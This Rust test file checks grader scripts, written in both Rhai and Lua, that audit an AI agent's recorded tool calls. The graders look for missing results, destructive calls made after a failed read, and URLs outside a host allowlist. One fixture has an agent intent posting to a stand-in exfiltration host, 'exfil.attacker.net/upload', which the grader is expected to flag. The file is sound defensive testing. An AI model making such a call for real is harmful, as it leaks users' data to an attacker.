//! The worked examples of docs/graders.md (scripts in examples/graders/), in Rhai and in Lua, on
//! fixture views shaped like the ones `gait regress run` gives scripts. Both languages must reach
//! the same verdict, reason codes and details. The end-to-end tests run the same scripts through
//! the binary on real runpacks.

#[global_allocator]
static ALLOC: gait_sandbox::MeteredAlloc = gait_sandbox::MeteredAlloc;

use gait_engine::plugin::GradeOutcome;
use gait_engine::regress::GradeStatus;
use gait_sandbox::{Language, Limits, Sandbox, Script, ViewValue};
use serde_json::{Value, json};
use std::path::PathBuf;
use std::sync::Arc;

fn examples_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../examples/graders")
}

fn grade(file: &str, fixture: &Value) -> GradeOutcome {
    let path = examples_dir().join(file);
    let source = std::fs::read_to_string(&path).unwrap();
    let sandbox = Sandbox::new(Limits::default());
    let script = Script {
        language: Language::from_path(&path).unwrap(),
        name: file.to_string(),
        source: Arc::from(source),
        inputs: vec!["fixture".into()],
    };
    let compiled = sandbox
        .compile(&script)
        .unwrap_or_else(|e| panic!("{file}: {e}"));
    let view = ViewValue::json(Arc::new(fixture.clone()));
    gait_graders::script::interpret(sandbox.run(&compiled, &[("fixture", view)]))
}

/// Grades with both languages; they must agree. Returns the outcome.
fn grade_both(stem: &str, fixture: &Value) -> GradeOutcome {
    let rhai = grade(&format!("{stem}.rhai"), fixture);
    let lua = grade(&format!("{stem}.lua"), fixture);
    assert_eq!(rhai, lua, "{stem}: Rhai and Lua disagree");
    rhai
}

fn fixture(capture: &str, intents: &[(&str, &str, Value)], results: &[(&str, &str)]) -> Value {
    let intents: Vec<Value> = intents
        .iter()
        .map(|(id, tool, args)| {
            let mut i = json!({"intent_id": id, "tool_name": tool, "run_id": "run_x"});
            if !args.is_null() {
                i["args"] = args.clone();
            }
            i
        })
        .collect();
    let results: Vec<Value> = results
        .iter()
        .map(|(id, status)| json!({"intent_id": id, "status": status, "run_id": "run_x"}))
        .collect();
    json!({
        "name": "run_x", "run_id": "run_x",
        "manifest": {"run_id": "run_x", "capture_mode": capture},
        "intents": intents, "results": results, "refs": {"receipts": []},
    })
}

#[test]
fn every_intent_has_a_result() {
    let ok = fixture(
        "reference",
        &[
            ("intent_1", "tool.search", Value::Null),
            ("intent_2", "tool.fetch", Value::Null),
        ],
        &[("intent_2", "ok"), ("intent_1", "ok")],
    );
    let o = grade_both("every_intent_has_a_result", &ok);
    assert_eq!(
        (o.status, o.reason_codes.clone()),
        (
            GradeStatus::Pass,
            vec!["every_intent_has_result".to_string()]
        )
    );

    let missing = fixture(
        "reference",
        &[
            ("intent_1", "tool.search", Value::Null),
            ("intent_2", "tool.fetch", Value::Null),
            ("intent_3", "tool.x", Value::Null),
        ],
        &[("intent_1", "ok")],
    );
    let o = grade_both("every_intent_has_a_result", &missing);
    assert_eq!(o.status, GradeStatus::Fail);
    assert_eq!(o.reason_codes, ["intent_without_result"]);
    assert_eq!(
        o.details["data"],
        json!({"missing": ["intent_2", "intent_3"]})
    );
}

#[test]
fn no_destructive_after_failed_read() {
    type Calls<'a> = &'a [(&'a str, &'a str)];
    let cases: &[(Calls, Calls, bool)] = &[
        // A successful read, then a delete: fine.
        (
            &[("intent_1", "db.read"), ("intent_2", "db.delete")],
            &[("intent_1", "ok"), ("intent_2", "ok")],
            true,
        ),
        // A failed fetch, then a delete: the incident this grader exists for.
        (
            &[("intent_1", "http.fetch"), ("intent_2", "db.delete_rows")],
            &[("intent_1", "error"), ("intent_2", "ok")],
            false,
        ),
        // A read without any result counts as failed.
        (
            &[("intent_1", "file.read"), ("intent_2", "file.write")],
            &[("intent_2", "ok")],
            false,
        ),
        // A failed read followed only by harmless calls.
        (
            &[("intent_1", "tool.search"), ("intent_2", "tool.summarize")],
            &[("intent_1", "error"), ("intent_2", "ok")],
            true,
        ),
        // Destructive before the failed read is not "after".
        (
            &[("intent_1", "tool.delete"), ("intent_2", "tool.get")],
            &[("intent_1", "ok"), ("intent_2", "error")],
            true,
        ),
    ];
    for (intents, results, pass) in cases {
        let intents: Vec<(&str, &str, Value)> =
            intents.iter().map(|(i, t)| (*i, *t, Value::Null)).collect();
        let f = fixture("reference", &intents, results);
        let o = grade_both("no_destructive_after_failed_read", &f);
        assert_eq!(
            o.status == GradeStatus::Pass,
            *pass,
            "{intents:?} {results:?}: {o:?}"
        );
        if !pass {
            assert_eq!(o.reason_codes, ["destructive_after_failed_read"]);
            assert!(
                o.message.contains("intent_2") && o.message.contains("after failed read intent_1"),
                "{}",
                o.message
            );
        }
    }
}

#[test]
fn url_host_allowlist() {
    let allowed = fixture(
        "raw",
        &[
            (
                "intent_1",
                "http.get",
                json!({"url": "https://api.example.com/v1/items?q=1"}),
            ),
            (
                "intent_2",
                "http.get",
                json!({"url": "https://user:pw@DOCS.example.com:8443/x#frag"}),
            ),
            ("intent_3", "tool.summarize", json!({"text": "no url here"})),
        ],
        &[],
    );
    let o = grade_both("url_host_allowlist", &allowed);
    assert_eq!(
        (o.status, o.reason_codes.clone()),
        (GradeStatus::Pass, vec!["url_hosts_allowed".to_string()])
    );

    let leaking = fixture(
        "raw",
        &[
            (
                "intent_1",
                "http.get",
                json!({"url": "https://api.example.com/ok"}),
            ),
            (
                "intent_2",
                "http.post",
                json!({"url": "http://exfil.attacker.net/upload"}),
            ),
        ],
        &[],
    );
    let o = grade_both("url_host_allowlist", &leaking);
    assert_eq!(o.status, GradeStatus::Fail);
    assert_eq!(o.reason_codes, ["url_host_not_allowed"]);
    assert_eq!(
        o.details["data"],
        json!({"outside": [{"intent_id": "intent_2", "tool": "http.post", "host": "exfil.attacker.net"}]})
    );

    let stripped = fixture("reference", &[("intent_1", "http.get", Value::Null)], &[]);
    let o = grade_both("url_host_allowlist", &stripped);
    assert_eq!(
        (o.status, o.reason_codes.clone()),
        (GradeStatus::Fail, vec!["args_not_captured".to_string()])
    );
}
